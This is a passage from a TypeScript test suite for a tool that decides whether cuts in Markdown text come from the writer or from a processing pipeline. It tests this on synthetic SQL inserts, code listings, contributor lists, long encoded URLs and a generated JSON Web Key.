    const { writer, pipeline } = findings(`# Countries\n\n\`\`\`sql\n${inserts}\n\`\`\`\n`, 'CK006');
    assert.deepEqual(writer, []);
    assert.match(pipeline[0].pipeline!.cause, /an INSERT statement per line/);
  });

  it('statements of code, and code with its comments lined up, are no listing of records', () => {
    const statements = lines(40, (i) => `let value${i} = compute(${i}, options.factor${i});`);
    const commented = lines(40, (i) => `mov eax, ${i}          ; load step ${i}`);
    const commands = lines(40, (i) => `kubectl label node worker-${i} zone=${i}`);
    const struct = lines(40, (i) => `uint32     Field${i};`);
    for (const block of [statements, commented, commands, struct]) {
      assert.equal(recordedOutputKind('', block.split('\n')), undefined, block.split('\n')[0]);
      assert.equal(isAlignedListing(block.split('\n')), false, block.split('\n')[0]);
    }
  });

  it('a recording needs eight lines: a short session is no recording', () => {
    assert.equal(recordedOutputKind('bash', ['$ ls', 'a', 'b', 'c']), undefined);
    assert.match(recordedOutputKind('bash', ['$ ls', ...Array.from({ length: 8 }, (_, i) => `file-${i}`)])!, /terminal session/);
  });
});

describe('a cut between two items of a long comma-separated list', () => {
  it('loses nothing: the pipeline\'s, when every item around it is a few words (a post\'s contributors); a cut in a sentence with commas stays the writer\'s', () => {
    const names = Array.from({ length: 300 }, (_, i) => `contributor-${i}`).join(', ');
    const list = findings(`# Contributors\n\nA big thank you to everyone who helped:\n\n${names}\n`, 'CK007');
    assert.deepEqual(list.writer, []);
    assert.ok(list.pipeline.length >= 1);
    assert.match(list.pipeline[0].pipeline!.cause, /between two items of a comma-separated list/);
    const clauses = Array.from({ length: 60 }, (_, i) => `the step ${i} reads the file and then it writes the result to the table`).join(', ');
    assert.ok(findings(`# Steps\n\n${clauses}.\n`, 'CK007').writer.length >= 1);
  });
});

describe('a cut inside one item of a long comma-separated list', () => {
  it('is the pipeline\'s: a name of two words parted where a comma was near (a release post\'s contributors); a word cut in prose with commas stays the writer\'s', () => {
    const names = Array.from({ length: 300 }, (_, i) => `Ann${i} Lee${i}`).join(', ');
    const list = findings(`# Contributors\n\nThe community would like to thank all the contributors that made this release possible:\n\n${names}\n`, 'CK007');
    assert.deepEqual(list.writer, []);
    assert.ok(list.pipeline.some((f) => /inside one item of a comma-separated list/.test(f.pipeline!.cause)));
    const clauses = Array.from({ length: 60 }, (_, i) => `the step ${i} reads the file and then it writes the result to the table`).join(', ');
    const prose = findings(`# Steps\n\n${clauses}.\n`, 'CK007');
    assert.ok(prose.writer.length >= 1);
    assert.ok(prose.pipeline.every((f) => !/comma-separated list/.test(f.pipeline!.cause)));
  });
});

describe('a cut inside one unbroken string longer than the cap', () => {
  it('is the pipeline\'s when the string is a link whose URL encodes a whole state; a cut between words of prose stays the writer\'s', () => {
    const state = Array.from({ length: 2000 }, (_, i) => 'eNqtVs1y2zYQfpU1L5QdmUzGbQ4'[i % 27]).join('');
    const link = findings(`# Sample\n\nIntro.\n\n[Try it in the Playground](https://play.example.org/#${state})\n`, 'CK007');
    assert.deepEqual(link.writer, []);
    assert.ok(link.pipeline.length >= 1);
    assert.match(link.pipeline[0].pipeline!.cause, /unbroken strings \(URLs or encoded values\)/);
    const prose = findings(`# Sample\n\n${lines(1, () => Array.from({ length: 200 }, (_, i) => `word${i}`).join(' '))}\n`, 'CK007');
    assert.ok(prose.writer.length >= 1);
    assert.ok(prose.pipeline.every((f) => !/unbroken string/.test(f.pipeline!.cause)));
  });

  it('is the pipeline\'s when the line is several encoded values, none alone over the cap (a JSON Web Key on one line, as Kong\'s key entity page shows it)', () => {
    const value = (seed: number) => Array.from({ length: 60 }, (_, i) => 'jpq-eutUC5uNpVfYdsEZacbC9w0C3tPwl6jCLa2WB2yj1_'[(i * 7 + seed) % 46]).join('');
    const key = `jwk: '{"kty": "RSA","use": "enc","kid": "example-key-id",${['d', 'n', 'p', 'q', 'dp', 'dq', 'qi'].map((m, i) => `"${m}": "${value(i)}"`).join(',')},"e": "AQAB"}'`;
    const data = findings(`# Set up a Key\n\ndata:\n  name: example-key\n  ${key}\n`, 'CK007');
    assert.deepEqual(data.writer, []);
    assert.ok(data.pipeline.length >= 1);
    const clause = `the key ${value(1).slice(0, 44)} signs tokens and the words around it are prose that a writer can break`;
    const prose = findings(`# Keys\n\n${Array.from({ length: 6 }, () => clause).join(' and ')}.\n`, 'CK007');
    assert.ok(prose.writer.length >= 1, 'one value among words: the writer\'s');
  });
});
